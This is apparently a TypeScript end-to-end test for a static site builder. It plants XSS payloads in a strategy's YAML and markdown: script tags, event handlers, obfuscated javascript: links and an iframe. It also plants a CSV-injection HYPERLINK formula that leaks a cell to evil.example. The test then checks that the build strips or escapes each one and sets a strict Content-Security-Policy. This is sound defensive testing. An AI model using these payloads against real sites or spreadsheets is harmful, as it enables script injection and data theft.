/**
 * End to end, as an attacker with commit access to content would try it: script, handlers and script
 * URLs in a chapter, markup in front matter and in YAML values shown on every page, and a spreadsheet
 * formula in a value published as open-data CSV. The build succeeds (with html/removed warnings) and
 * no published page holds anything a browser would run; the CSV cell cannot run as a formula.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Element, Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { build, type BuildResult } from '../../scripts/build.js';

const REPO = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
let work: string;
let out: string;
let result: BuildResult;

function replaceIn(root: string, rel: string, find: RegExp | string, replacement: string): void {
  const file = path.join(root, rel);
  const text = fs.readFileSync(file, 'utf8');
  const next = text.replace(find, replacement);
  if (next === text)
    throw new Error(`The example changed: ${String(find)} is no longer in ${rel}; update this test's injection.`);
  fs.writeFileSync(file, next);
}

function filesUnder(dir: string, ext: string): string[] {
  const found: string[] = [];
  const walk = (d: string): void => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const f = path.join(d, e.name);
      if (e.isDirectory()) walk(f);
      else if (f.endsWith(ext)) found.push(f);
    }
  };
  walk(dir);
  return found.sort();
}

/** Anything active in a whole page: inline or foreign scripts, handlers, frames, forms, script URLs. */
function activeInPage(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Nodes): void => {
    if (node.type === 'element') {
      const el = node as Element;
      const tag = el.tagName;
      if (tag === 'script') {
        const src = String(el.properties['src'] ?? '');
        if (el.children.length || !src || /^([a-z]+:|\/\/)/i.test(src))
          found.push(`<script src="${src}"> with ${el.children.length} children`);
      }
      if (['iframe', 'frame', 'object', 'embed', 'form', 'base', 'applet'].includes(tag)) found.push(`<${tag}>`);
      if (tag === 'meta' && String(el.properties['httpEquiv'] ?? '').toLowerCase() === 'refresh')
        found.push('<meta refresh>');
      for (const [key, value] of Object.entries(el.properties)) {
        if (/^on/i.test(key)) found.push(`${key} on <${tag}>`);
        const v = (Array.isArray(value) ? value.join(' ') : String(value))
          .replace(/[\t\n\r]/g, '')
          .replace(/^[\u0000-\u0020]+/, '');
        if (
          ['href', 'src', 'action', 'formAction', 'xLinkHref', 'srcSet', 'poster', 'data'].includes(key) &&
          /^(javascript|vbscript|data:text)/i.test(v)
        )
          found.push(`${key}="${v}" on <${tag}>`);
      }
    }
    if ('children' in node) for (const child of node.children) walk(child);
  };
  walk(fromHtml(html));
  return found;
}

beforeAll(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-hostile-'));
  const root = path.join(work, 'strategy');
  out = path.join(work, 'dist');
  fs.mkdirSync(root);
  fs.cpSync(path.join(REPO, 'content'), path.join(root, 'content'), { recursive: true });
  fs.cpSync(path.join(REPO, 'data'), path.join(root, 'data'), { recursive: true });
  replaceIn(
    root,
    'data/partnership.yaml',
    /^name: .*$/m,
    `name: "Safer <script>alert('name')</script> <img src=x onerror=alert('name2')> Partnership"`,
  );
  replaceIn(
    root,
    'data/kpis.yaml',
    /title: Knife crime offences/,
    `title: "Knife crime </title><script>alert('kpi')</script>"`,
  );
  replaceIn(
    root,
    'data/risks.yaml',
    /risk: .*/,
    `risk: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Click\\") <a href=javascript:alert('risk')>x</a>"`,
  );
  replaceIn(
    root,
    'content/01-executive-summary.md',
    /^summary: .*$/m,
    `summary: "</title><script>alert('summary')</script> Our priorities"`,
  );
  replaceIn(
    root,
    'content/01-executive-summary.md',
    /\n## /,
    `\n<script>alert('body')</script>\n\n<iframe src="https://evil.example"></iframe>\n\n[link](javascript:alert('link')) <a href="jav&#x09;ascript:alert('a')">a</a> <img src=x onerror=alert('img') alt="">\n\n<details open ontoggle=alert('toggle')><summary>More</summary>Text</details>\n\n## `,
  );
  result = await build({ root, out, pdf: false });
});

afterAll(() => {
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

describe('a strategy full of hostile content', () => {
  it('builds, warning about each removal in the chapter', () => {
    expect(result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(result.ok).toBe(true);
    const removed = result.diagnostics.filter((d) => d.ruleId === 'html/removed').map((d) => d.message);
    for (const what of [
      'the <script> element',
      'the <iframe> element',
      'the "javascript:" address in the href of <a>',
      'the ontoggle event handler on <details>',
    ]) {
      expect(removed).toContain(`Unsafe HTML was removed: ${what}.`);
    }
  });

  it('publishes no page with anything a browser would run', () => {
    const pages = filesUnder(out, '.html');
    expect(pages.length).toBeGreaterThan(5);
    for (const page of pages)
      expect({ page: path.relative(out, page), active: activeInPage(fs.readFileSync(page, 'utf8')) }).toEqual({
        page: path.relative(out, page),
        active: [],
      });
  });

  it('shows the markup typed into YAML and front matter as text', () => {
    const home = fs.readFileSync(path.join(out, 'index.html'), 'utf8');
    expect(home).toContain('Safer &lt;script&gt;alert(');
    expect(home).not.toContain("<script>alert('name')");
  });

  it('every page carries a Content-Security-Policy with no inline script', () => {
    for (const page of filesUnder(out, '.html')) {
      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(fs.readFileSync(page, 'utf8'));
      expect(meta, path.relative(out, page)).not.toBeNull();
      const csp = meta![1]!.replace(/&#x27;/g, "'");
      // Scripts come only from the site's own files: no inline script and no eval of JavaScript.
      // 'wasm-unsafe-eval' lets Pagefind's search compile its WebAssembly and allows nothing else.
      const directives = csp.split(';').map((d) => d.trim().split(/\s+/));
      const script = directives.find(([name]) => name === 'script-src');
      expect(script?.slice(1)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
      expect(directives.filter(([name]) => name?.startsWith('script-src'))).toHaveLength(1);
      expect(csp).toMatch(/default-src 'none'(;|$)/);
      expect(csp).not.toContain("'unsafe-eval'");
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      expect(csp).toContain("base-uri 'none'");
      expect(csp).toContain("form-action 'none'");
    }
  });

  it('publishes a spreadsheet formula in open data as text, not as a formula', () => {
    const csvs = filesUnder(out, '.csv').map((f) => fs.readFileSync(f, 'utf8'));
    const all = csvs.join('\n');
    expect(all).toContain('HYPERLINK');
    // No cell may start with = + - @ (CSV injection); the build prefixes such cells with an apostrophe.
    expect(all).not.toMatch(/(^|,)"?[=+@]/m);
  });
});
